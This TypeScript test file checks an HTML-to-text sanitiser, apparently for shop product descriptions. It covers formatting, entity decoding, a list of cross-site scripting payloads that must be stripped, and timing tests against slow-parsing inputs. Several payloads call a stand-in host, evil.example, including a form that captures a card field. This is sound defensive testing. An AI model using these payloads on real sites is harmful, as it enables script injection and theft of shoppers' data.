import assert from 'node:assert/strict'
import { test } from 'node:test'
import { cpuMillisecondsOf } from '@comanda/test-kit/cpu'
import { htmlToText } from './html-text.ts'

test('paragraphs, line breaks and lists read as they were written', () => {
  assert.equal(htmlToText('<p>One.</p>\n<p>Two,<br>still two.</p>'), 'One.\n\nTwo,\nstill two.')
  assert.equal(htmlToText('A<br/><br />B<BR>C'), 'A\n\nB\nC')
  assert.equal(
    htmlToText('<h2>Care</h2><ul>\n<li>Wash cold</li>\n <li> Dry flat</li></ul>After'),
    'Care\n\n• Wash cold\n• Dry flat\n\nAfter',
  )
  assert.equal(htmlToText('<ul><li><p>One</p></li><li></li><li><p>Two</p></li></ul>'), '• One\n\n• Two')
  assert.equal(
    htmlToText('<table><tr><td>Height</td><td>9 cm</td></tr><tr><td>Width</td><td>4 cm</td></tr></table>'),
    'Height 9 cm\nWidth 4 cm',
  )
  assert.equal(htmlToText('a <b>bold</b> <span\nclass="x">word</span>\n  here'), 'a bold word here')
  assert.equal(htmlToText('<p>&nbsp;</p><p> </p><div><div>Text</div></div>'), 'Text')
})

test('a text without tags keeps its own line breaks', () => {
  assert.equal(htmlToText('One\r\nTwo\n\n\nThree  four\n'), 'One\nTwo\n\nThree four')
  assert.equal(htmlToText('5 < 6 and 7 > 6, a<3, <3'), '5 < 6 and 7 > 6, a<3, <3')
  assert.equal(htmlToText(''), '')
})

test('character references are decoded once, never twice', () => {
  assert.equal(
    htmlToText('Salt &amp; pepper &lt;b&gt; &quot;x&quot; &#39;y&#39; &apos;'),
    "Salt & pepper <b> \"x\" 'y' '",
  )
  assert.equal(htmlToText('&amp;lt;script&amp;gt; &amp;amp;'), '&lt;script&gt; &amp;')
  assert.equal(
    htmlToText('Caf&eacute; &ntilde; &#241; &#xF1; &#XF1; &euro;5 &hellip; &yuml; &szlig;'),
    'Café ñ ñ ñ ñ €5 … ÿ ß',
  )
  assert.equal(htmlToText('a&nbsp;b'), 'a\u00a0b')
  assert.equal(htmlToText('&unknown; &; &# &#x; R&D &copy 5 &#38'), '&unknown; &; &# &#x; R&D &copy 5 &#38')
})

test('numbers that are no character become the replacement character or what Windows meant', () => {
  assert.equal(htmlToText('&#0;|&#xD800;|&#x110000;|&#9999999;'), '\ufffd|\ufffd|\ufffd|\ufffd')
  assert.equal(htmlToText('&#146;&#150;&#x80;'), '’–€')
  assert.equal(htmlToText('a&#7;b&#27;[31mc\u0000\u001b'), 'ab[31mc')
  assert.equal(htmlToText('&#xE000;x&#xE001;y\ue000z'), '\ue000x\ue001yz')
})

/** Every line: what an attacker sends, what a shopper may read of it. */
const ATTACKS: readonly (readonly [html: string, text: string])[] = [
  ['<script>alert(1)</script>Bowl', 'Bowl'],
  ['<SCRIPT SRC=//evil.example/x.js></SCRIPT >Bowl', 'Bowl'],
  ['<script>if (a < b) document.write("</p>")</script\n>Bowl', 'Bowl'],
  ['<script><!-- </script> -->Bowl', '-->Bowl'],
  ['<scr<script>ipt>alert(1)</scr</script>ipt>Bowl', 'ipt>alert(1)ipt>Bowl'],
  ['<script>alert(1)', ''],
  ['<script>alert(1)</scripty>still script</script>Bowl', 'Bowl'],
  ['<style>@import url(//evil.example)</style>Bowl', 'Bowl'],
  ['<style><img src=x onerror=alert(1)></style>Bowl', 'Bowl'],
  ['<img src=x onerror=alert(1)>Bowl', 'Bowl'],
  ['<img src="x" alt="a > b" onerror="alert(1)">Bowl', 'Bowl'],
  ["<img alt='\"><script>alert(1)</script>' src=x>Bowl", 'Bowl'],
  ['<img """><script>alert(1)</script>">Bowl', '">Bowl'],
  ["<p title=it's>Bowl</p>", 'Bowl'],
  ['<a href="javascript:alert(1)">Bowl</a>', 'Bowl'],
  ['<a href="jav&#x09;ascript:alert(1)">Bowl</a>', 'Bowl'],
  ['<svg/onload=alert(1)>Bowl', 'Bowl'],
  ['<svg><script>alert(1)</script></svg>Bowl', 'Bowl'],
  ['<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style>Bowl', 'Bowl'],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>Bowl', 'Bowl'],
  ['<iframe src=javascript:alert(1)><p>x</p></iframe>Bowl', 'Bowl'],
  ['<object data="data:text/html,<script>1</script>"></object>Bowl', 'Bowl'],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">Bowl', '">Bowl'],
  ['<textarea><script>alert(1)</script></textarea>Bowl', 'Bowl'],
  ['<!-- <script>alert(1)</script> -->Bowl', 'Bowl'],
  ['<!--><img src=x onerror=alert(1)>-->Bowl', '-->Bowl'],
  ['<!---><b>Bowl</b>', 'Bowl'],
  ['<!-- never closed <b>Bowl', ''],
  ['<!DOCTYPE html><?php echo 1 ?><![CDATA[ x ]]>Bowl', 'Bowl'],
  ['</ script>Bowl</>', 'Bowl'],
  ['<p/onclick=alert(1)/>Bowl', 'Bowl'],
  ['<x onclick=alert(1)>Bowl</x>', 'Bowl'],
  ['<body onload=alert(1)>Bowl<base href=//evil.example>', 'Bowl'],
  ['<meta http-equiv=refresh content=0;url=//evil.example>Bowl', 'Bowl'],
  ['<form action=//evil.example><input name=card></form>Bowl', 'Bowl'],
  ['Bowl<b', 'Bowl'],
  ['Bowl<img src="never closed', 'Bowl'],
]

for (const [html, text] of ATTACKS) {
  test(`nothing of this attack is left: ${html.replace(/\s/g, ' ')}`, () => {
    assert.equal(htmlToText(html), text)
  })
}

test('markup that hides behind references comes out as text to escape, and is not decoded again', () => {
  assert.equal(htmlToText('&lt;script&gt;alert(1)&lt;/script&gt;'), '<script>alert(1)</script>')
  assert.equal(htmlToText('&#60;img src=x onerror=alert(1)&#62;'), '<img src=x onerror=alert(1)>')
})

const HOSTILE_PIECES = [
  '<',
  '<<b',
  '&',
  '&#',
  '&amp',
  '<!--',
  '<!---',
  '<a b="',
  "<a b='",
  '<a b=',
  '<script>',
  '</',
  '<br',
  '<br>',
  '<p>',
  '<li>',
  '• ',
  '\n',
  ' ',
  '=',
  '<a ====',
  '>',
  '</script ',
  '<title>x</title',
  '<a x=" >',
  '\ue001',
]

for (const piece of HOSTILE_PIECES) {
  test(`a description of nothing but ${JSON.stringify(piece)} takes no long time`, () => {
    const html = piece.repeat(Math.ceil(1_000_000 / piece.length))
    const milliseconds = cpuMillisecondsOf(() => {
      htmlToText(html)
      htmlToText(`<b>${html}`)
      htmlToText(`${html}<b>`)
    })
    assert.ok(milliseconds < 5_000)
  })
}
